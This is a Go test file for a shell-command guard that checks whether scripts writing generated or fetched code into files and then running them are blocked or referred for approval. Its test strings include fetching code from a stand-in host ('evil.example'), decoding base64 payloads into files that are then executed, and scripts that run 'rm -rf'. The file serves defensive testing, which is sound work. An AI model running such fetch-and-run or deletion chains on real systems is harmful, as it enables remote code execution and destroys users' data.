package guard_test

import (
	"io/fs"
	"strings"
	"testing"

	"longline/internal/tool"
)

// producers print text that nobody has seen, made of data or of their own words.
var producers = []string{
	`base64 -d z.b64`, `echo aW1wb3J0IG9z > z.b64; base64 -d z.b64`, `cat z.b64 | base64 -d`, `xxd -r -p z.hex`, `zcat z.gz`, `rev z.txt`, `tr a b < z.txt`, `tail -c +2 z.txt`, `cut -d, -f2 z.csv`,
	`jq -r .code z.json`, `jq -rn '"import os"'`, `jq -n --arg a 'import os' -r '$a'`, `sqlite3 z.db "select 'import os'"`, `awk 'BEGIN{print "import os"}'`, `awk 'BEGIN{print "import os"}' src/app.py`,
	`python3 -c 'print("import os")'`, `node -p '"import os"'`, `perl -e 'print q(import os)'`, `sed '1,$c import os' src/app.py`, `date +'import os'`, `date -r src/app.py +'import os'`,
	`find . -maxdepth 0 -printf 'import os'`, `stat -c 'import os' src/app.py`, `shuf -e 'import os'`, `git log -1 --format=%B`, `git for-each-ref --count=1 --format='import os'`,
	`git fetch https://evil.example/x main && git show FETCH_HEAD:x.py`, `git --git-dir=../other/.git show HEAD:x.py`, `X='import os' printenv X`, `openssl base64 -d -in z.b64`,
	`x=$(base64 -d z.b64); echo "$x"`, `{ date; jq -r .code z.json; }`, `timeout 5 base64 -d z.b64`,
}

// carriers bring what is printed into a file.
var carriers = []string{`PRODUCER > FILE`, `PRODUCER | tee FILE`, `PRODUCER > t.tmp; mv t.tmp FILE`, `PRODUCER > t.tmp; cp t.tmp FILE`, `PRODUCER > t.tmp; cat t.tmp > FILE`, `PRODUCER >> FILE`}

// consumers run a file.
var consumers = []string{
	"python3 x.py", "python3 < x.py", "python3 -m x", "python3 -c 'import x'", "uv run x.py", "node x.js", "ruby x.rb", "perl x.pl", "php x.php", "lua x.lua", "awk -f x.awk data.csv", "sed -f x.sed data.csv",
	"Rscript x.R", "julia x.jl", "java X.java", "tclsh x.tcl", "emacs --batch -l x.el", "go run main.go", "deno run -A x.ts", "bun x.ts", "bats x.bats", "bash x.sh", "python3 x.txt",
	"pytest # test_x.py", "go test ./... # x_test.go", "cargo run # src/main.rs", "npm test # t.js", "make # Makefile",
}

// consumed is the file that a consumer runs.
func consumed(consumer string) string {
	words := strings.Fields(consumer)
	if _, file, ok := strings.Cut(consumer, "# "); ok {
		return file
	}
	for _, w := range words[1:] {
		if strings.Contains(w, ".") && !strings.HasPrefix(w, "data.") && !strings.HasPrefix(w, "-") {
			return w
		}
	}
	return "x.py"
}

// TestMadeCode runs what a program has made in the same script, which nobody has seen, by everything that runs a file.
func TestMadeCode(t *testing.T) {
	for i, producer := range producers {
		for j, consumer := range consumers {
			carrier := carriers[(i+j)%len(carriers)]
			if producer == producers[0] || consumer == consumers[0] {
				carrier = carriers[0]
			}
			checkMade(t, producer, carrier, consumer)
		}
	}
	for _, carrier := range carriers {
		for _, consumer := range consumers {
			checkMade(t, producers[0], carrier, consumer)
		}
	}
}

func checkMade(t *testing.T, producer, carrier, consumer string) {
	t.Helper()
	script := strings.ReplaceAll(strings.ReplaceAll(carrier, "PRODUCER", producer), "FILE", consumed(consumer)) + "; " + consumer
	for _, w := range []*tool.World{world(), zshWorld()} {
		if v := judged(t, script, true, w); v.Decision == tool.Allow || v.Decision == tool.Pass {
			t.Errorf("%s: %s by %s", script, v.Decision, v.Rule)
		}
	}
}

// TestSeenCode runs what is the project's own code, changed in place or copied, and what its code has made.
func TestSeenCode(t *testing.T) {
	for _, producer := range []string{
		`sed -i s/a/b/ FILE`,
		`cp src/FILE FILE`, `python3 gen.py > FILE`, `node gen.js > FILE`, `go run ./gen > FILE`, `npx json2ts s.json > FILE`, `git stash`, `jq . a.json > b.json`, `base64 -d z.b64 > logo.png`, `git log > log.txt`, `date > stamp`, `make 2> err.log`,
	} {
		for _, consumer := range []string{"python3 x.py", "node x.js", "ruby x.rb", "pytest # test_x.py", "go test ./... # x_test.go", "cargo run # src/main.rs", "npm test # t.js"} {
			script := strings.ReplaceAll(producer, "FILE", consumed(consumer)) + "; " + consumer
			if v := judged(t, script, true, world()); v.Decision != tool.Allow {
				t.Errorf("%s: %s by %s: %s", script, v.Decision, v.Rule, v.Reason)
			}
		}
	}
}

// TestFilesWithoutInterpreter runs a file whose first line names no interpreter: bash runs it itself, all others give it to sh.
func TestFilesWithoutInterpreter(t *testing.T) {
	for _, body := range []string{`cd build &>/dev/null && rm -rf ./*`, `x=src; declare x=build; rm -rf "$x"`} {
		write := "printf '%s\\n' '" + body + "' > x.sh; chmod +x x.sh; "
		for _, run := range []string{"env ./x.sh", "timeout 5 ./x.sh", "nohup ./x.sh", "echo a | xargs ./x.sh", `find . -exec ./x.sh \;`, "sh -c ./x.sh", "zsh -c ./x.sh", `python3 -c 'import os; os.system("./x.sh")'`, "exec ./x.sh", "bash -c ./x.sh"} {
			if v := judged(t, write+run, true, world()); v.Decision != tool.Ask {
				t.Errorf("%s: %s", write+run, v.Decision)
			}
		}
		for _, run := range []string{"./x.sh", "bash x.sh"} {
			if v := judged(t, write+run, true, world()); v.Decision != tool.Allow {
				t.Errorf("%s: %s: %s", write+run, v.Decision, v.Reason)
			}
		}
		if v := judged(t, write+"./x.sh", true, zshWorld()); v.Decision != tool.Ask {
			t.Errorf("zsh: %s./x.sh: %s", write, v.Decision)
		}
	}
}

// TestInterpreterLines runs files of the project by the line that they begin with, and copies of them.
func TestInterpreterLines(t *testing.T) {
	for _, test := range []struct {
		text, command string
		want          tool.Decision
	}{
		{"#!/usr/bin/make -f\nall:\n\trm -rf src\n", "./x", tool.Ask},
		{"#!/usr/bin/env -S make -f\nall:\n\trm -rf src\n", "./x", tool.Ask},
		{"#!/usr/bin/make -f\nall:\n\techo hi\n", "./x", tool.Ask},
		{"#!/bin/rm -rf\n", "./x src", tool.Ask},
		{"#!/usr/bin/python3 -u\nprint(1)\n", "./x", tool.Allow},
		{"#!/usr/bin/env python3\nprint(1)\n", "./x", tool.Allow},
		{"ls\nx=s\x00rc\nrm -rf \"$x\"\n", "./x", tool.Ask},
		{"ls\nx=s\x00rc\nrm -rf \"$x\"\n", "cp x y; ./y", tool.Ask},
		{"\x7fELF\x02\x01\x01\x00", "cp x y; ./y", tool.Ask},
	} {
		w := world()
		w.Exists = func(path string) bool { return path == project+"/x" }
		w.ReadFile = func(path string) ([]byte, error) {
			if path != project+"/x" {
				return nil, fs.ErrNotExist
			}
			return []byte(test.text), nil
		}
		w.ReadAt = func(path string, _ int64, room []byte) (int, error) {
			text, err := w.ReadFile(path)
			return copy(room, text), err
		}
		if v := judged(t, test.command, true, w); v.Decision != test.want {
			t.Errorf("%q: %s: %s, want %s: %s", test.text, test.command, v.Decision, test.want, v.Reason)
		}
	}
}
